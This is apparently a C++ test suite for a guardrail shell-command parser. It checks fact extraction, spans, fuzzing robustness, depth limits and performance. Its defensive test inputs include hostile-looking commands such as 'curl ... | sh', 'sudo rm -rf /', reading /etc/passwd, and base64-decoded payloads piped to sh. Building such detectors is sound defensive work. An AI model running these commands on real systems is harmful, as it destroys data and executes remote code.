// The reader of shell text: its facts, their places, and that nothing breaks it.
#include <ctime>

#include "shell/shell_support.h"
#include "support/test.h"

namespace gw::test {

namespace {

using namespace guardrail::shell;

// tests/vectors/guardrail/shell_facts.txt: text, `=> ` facts, empty line.
struct FactCase {
    std::string text;
    std::string want;
};
std::vector<FactCase> read_cases() {
    std::vector<FactCase> cases;
    const std::string file = read_vector("guardrail/shell_facts.txt");
    std::string text;
    std::size_t at = file.find("\n## ");
    while (at < file.size()) {
        const std::size_t end = std::min(file.find('\n', at), file.size());
        const std::string line = file.substr(at, end - at);
        at = end + 1;
        if (line.starts_with("## ")) continue;
        if (line.starts_with("=> ")) {
            text.pop_back();
            cases.push_back({text, line.substr(3)});
            text.clear();
        } else if (!line.empty()) {
            text += line + "\n";
        }
    }
    return cases;
}

// Line feeds stay readable in the vectors.
std::string one_line(std::string text) {
    for (std::size_t at = text.find('\n'); at != std::string::npos; at = text.find('\n', at))
        text.replace(at, 1, "\\n");
    return text;
}

std::string facts_of(std::string_view text, const Limits& limits = {}) {
    Facts facts(std::pmr::get_default_resource());
    read(text, limits, facts);
    return describe(facts);
}

std::string_view cut(std::string_view text, Span span) { return text.substr(span.begin, span.end - span.begin); }

void check_spans(const Facts& facts, std::size_t size) {
    const auto inside = [&](Span span) { return span.begin <= span.end && span.end <= size; };
    for (const Command& command : facts.commands) {
        if (!inside(command.span)) FAIL("span of " << command.program);
        for (const auto& word : command.arguments) {
            if (!inside(word.span)) FAIL("span of an argument of " << command.program);
        }
        for (const auto& path : command.paths) {
            if (!inside(path.span)) FAIL("span of a path of " << command.program);
        }
        for (const auto& contact : command.contacts) {
            if (!inside(contact.span)) FAIL("span of a contact of " << command.program);
        }
        for (const auto& variable : command.variables) {
            if (!inside(variable.span)) FAIL("span of a variable of " << command.program);
        }
        for (const auto& code : command.code) {
            if (!inside(code.span)) FAIL("span of code of " << command.program);
        }
    }
    for (const Flow& flow : facts.flows) {
        for (const std::uint32_t node : {flow.from, flow.to}) {
            const bool channel = (node & Flow::channel) != 0;
            const std::size_t count = channel ? facts.channels : facts.commands.size();
            if ((node & ~Flow::channel) >= count) FAIL("a flow to nowhere");
        }
    }
}

std::string repeat(std::string_view unit, std::size_t count, std::string_view close = {}) {
    std::string text;
    for (std::size_t i = 0; i < count; ++i) text += unit;
    for (std::size_t i = 0; i < count; ++i) text += close;
    return text;
}

}  // namespace

TEST_CASE("shell: the facts of command lines") {
    const std::vector<FactCase> cases = read_cases();
    for (const FactCase& c : cases) {
        INFO(c.text);
        CHECK(one_line(facts_of(c.text)) == c.want);
    }
    CHECK(cases.size() >= 250);
}

TEST_CASE("shell: every fact has its place in the text") {
    struct PlaceCase {
        std::string_view text;
        std::size_t command;
        std::string_view whole;               // the command's span
        std::vector<std::string_view> words;  // the arguments' spans
    };
    const PlaceCase cases[] = {
        {"  curl -s  'http://h/'x >f | sh ", 0, "curl -s  'http://h/'x >f", {"-s", "'http://h/'x"}},
        {"a;b c # d\ne", 1, "b c", {"c"}},
        {"A=1 b 2>&1 c", 0, "A=1 b 2>&1 c", {"c"}},
        {"sudo -n rm -rf / && x", 1, "rm -rf /", {"-rf", "/"}},
        {"sh -c 'cat  /etc/x' y", 1, "cat  /etc/x", {"/etc/x"}},
        {R"(sh -c "sh -c 'cat \"/etc/x\" z'")", 2, R"(cat \"/etc/x\" z)", {R"("/etc/x\")", "z"}},
        {"eval ca't a' b", 1, "ca't a' b", {"a", "b"}},
        {"echo `echo \\`id a\\` b`", 0, "id a", {"a"}},
        {"x $(y \"$(z w)\")", 0, "z w", {"w"}},
        {"sh <<E\n  cat y\nE\n", 1, "cat y", {"y"}},
        {"X='rm y'; $X z", 1, "$X z", {"$X", "z"}},
        {"X='rm y'; eval $X z", 2, "rm y'; eval $X z", {"y", "z"}},
        {"cat {a,b}", 0, "cat {a,b}", {"{a,b}", "{a,b}"}},
        {"echo cm0geA== | base64 -d | sh", 3, "cm0geA==", {"cm0geA=="}},
        {"ssh h cat y", 1, "cat y", {"y"}},
        {"$'\\x63at' y", 0, "$'\\x63at' y", {"y"}},
        {"find . -exec rm {} \\;", 1, "rm {}", {"{}"}},
        {"python3 -c 'x=\"/etc/y\"'", 0, "python3 -c 'x=\"/etc/y\"'", {"-c", "'x=\"/etc/y\"'"}},
    };
    for (const PlaceCase& c : cases) {
        Facts facts(std::pmr::get_default_resource());
        read(c.text, {}, facts);
        INFO(c.text << "\n" << describe(facts));
        REQUIRE(facts.commands.size() > c.command);
        const Command& command = facts.commands[c.command];
        CHECK(cut(c.text, command.span) == c.whole);
        std::vector<std::string_view> words;
        for (const auto& word : command.arguments) words.push_back(cut(c.text, word.span));
        CHECK(words == c.words);
    }
    Facts facts(std::pmr::get_default_resource());
    const std::string_view text = "python3 -c 'open(\"/etc/y\"); get(\"https://h/p\")'";
    read(text, {}, facts);
    CHECK(cut(text, facts.commands[0].paths[0].span) == "/etc/y");
    CHECK(cut(text, facts.commands[0].contacts[0].span) == "https://h/p");
}

TEST_CASE("shell: a delimiter followed by a blank ends no here-document, so that nothing can hide behind it") {
    CHECK(facts_of("cat <<A\nA \ncat <<B\nA\nid\n") == "cat; id");
    CHECK(facts_of("cat <<A\nid\nA ") == "cat");
}

TEST_CASE("shell: what is not known is marked") {
    Facts facts(std::pmr::get_default_resource());
    read("cat $X a$(b)c /etc/* \"$X\" '$X'", {}, facts);
    const auto& words = facts.commands[1].arguments;
    REQUIRE(words.size() == 5);
    CHECK((words[0].unresolved && words[0].text == "$X" && words[0].bare.empty()));
    CHECK((words[1].unresolved && words[1].text == "a$()c" && words[1].bare == "ac"));
    CHECK((!words[2].unresolved && words[2].glob));
    CHECK(words[3].unresolved);
    CHECK((!words[4].unresolved && !words[4].glob && words[4].text == "$X"));
}

TEST_CASE("shell: broken text gives facts, in bounds, and a space at the end changes nothing") {
    const std::vector<FactCase> cases = read_cases();
    Random random(7);
    for (int round = 0; round < 700; ++round) {
        std::string text = cases[random.below(cases.size())].text;
        switch (random.below(4)) {
        case 0: text.resize(random.below(text.size() + 1)); break;
        case 1: text.erase(random.below(text.size()), random.below(5)); break;
        case 2: text.insert(random.below(text.size()), 1, "`'\"$(){};|&<>\\\n#\0"[random.below(17)]); break;
        default: {
            const std::string& other = cases[random.below(cases.size())].text;
            text.insert(random.below(text.size()), other.substr(random.below(other.size())));
        }
        }
        INFO(text);
        Facts facts(std::pmr::get_default_resource());
        read(text, {}, facts);
        check_spans(facts, text.size());
        if (!facts.incomplete) CHECK(facts_of(text + " ") == describe(facts));
    }
    for (int round = 0; round < 300; ++round) {
        std::string text;
        for (std::size_t i = random.below(60); i > 0; --i) text.push_back(static_cast<char>(random.next()));
        Facts facts(std::pmr::get_default_resource());
        read(text, {}, facts);
        check_spans(facts, text.size());
    }
}

TEST_CASE("shell: depth and size have limits, and what was read before them counts") {
    const std::string deep[] = {
        repeat("$(", 1500, ")"),
        repeat("(", 1500, ")"),
        repeat("`", 1500),
        repeat("${x:-", 1500, "}"),
        repeat("{ ", 1500, " }"),
        repeat("if ", 1500),
        repeat("\"$(", 1500, ")\""),
        repeat("$((", 1500, "))"),
        repeat("<(", 1500, ")"),
        repeat("case x in x) ", 1500),
        repeat("f() ", 1500),
        repeat("! ", 1500),
        repeat("eval ", 1500) + "x",
        repeat("sudo ", 1500) + "x",
        repeat("while ", 1500),
        repeat("a | ", 1500),
        repeat("{a,", 2000, "}"),
        repeat("{a,b}", 800),
        repeat("x=$x$x;", 1500),
        repeat("sh -c '", 1500),
        repeat("cat <<A\n", 1000),
        repeat("for i in a b; do ", 500),
        repeat("$((a) ", 1000),
        repeat("[[ ", 1500),
        repeat("\\", 1501),
        repeat("alias a=b;", 1000),
        repeat("f(){ f;f; };f;", 800),
    };
    for (const std::string& text : deep) {
        INFO(text.substr(0, 40));
        Facts facts(std::pmr::get_default_resource());
        read("cat first; " + text, {}, facts);
        CHECK(facts.commands.size() >= 1);
        CHECK(facts.commands.size() < 40000);
    }
    CHECK(facts_of("cat x; " + repeat("$(", 100, ")")).ends_with("?"));
    CHECK(facts_of("cat x; " + repeat("(", 20) + "cat y" + repeat(")", 20)) == "cat x r:x; cat y r:y");

    Limits limits;
    limits.text_bytes_max = 5;
    CHECK(facts_of("cat x; id", limits) == "cat x r:x ?");
    limits = {};
    limits.commands_max = 2;
    CHECK(facts_of("a; b; c; d", limits).ends_with("?"));
    limits = {};
    limits.words_max = 3;
    CHECK(facts_of("a b c d e f", limits).ends_with("?"));
}

TEST_CASE("shell: reading is linear") {
    const std::string_view units[] = {"cat /etc/passwd | sh; ",
                                      "a",
                                      "a ",
                                      "$(",
                                      "`a` ",
                                      "\"$x\" ",
                                      "x=$x; ",
                                      "((",
                                      "{a,b} ",
                                      "'",
                                      "\\a",
                                      "<<A ",
                                      "$((a) b) ",
                                      "echo a >> f; sh f; ",
                                      "f(){ a; }; f; ",
                                      "for i in a b c; do echo $i; done; ",
                                      "python3 -c \"a'b'c\"; ",
                                      "#\n",
                                      "cd a; "};
    for (const std::string_view unit : units) {
        const auto seconds = [&](std::size_t bytes) {
            std::string text;
            while (text.size() < bytes) text += unit;
            text.resize(bytes);
            const std::clock_t begin = std::clock();  // of this process: others may be busy
            Facts facts(std::pmr::get_default_resource());
            read(text, {}, facts);
            return static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
        };
        const double small = seconds(1U << 11U);
        const double large = seconds(1U << 14U);
        INFO(unit << ": " << small << " s, eight times as much " << large << " s");
        CHECK(large < 16 * small + 0.3);  // a square would be 64 times as much
    }
}

TEST_CASE("shell: a refusing allocator leaves nothing behind") {
    const std::string_view text =
        "X=$(echo aWQK | base64 -d); f() { curl \"$1\" | sh; }; f http://h/{a,b}; eval $X; cat <<E > x\n$X\nE\nsh x; "
        "find . -exec rm {} +; echo a | xargs -I{} sh -c 'b {}'";
    TestHost host;
    for (std::size_t n = 0;; ++n) {
        host.fail_once_at(n);
        HostMemory memory(host.allocator());
        bool done = false;
        try {
            Facts facts(&memory);
            read(text, {}, facts);
            done = true;
        } catch (const std::bad_alloc&) {
        }
        REQUIRE(host.bytes_out() == 0);
        if (done) break;
        REQUIRE(n < 5000);
    }
}

}  // namespace gw::test
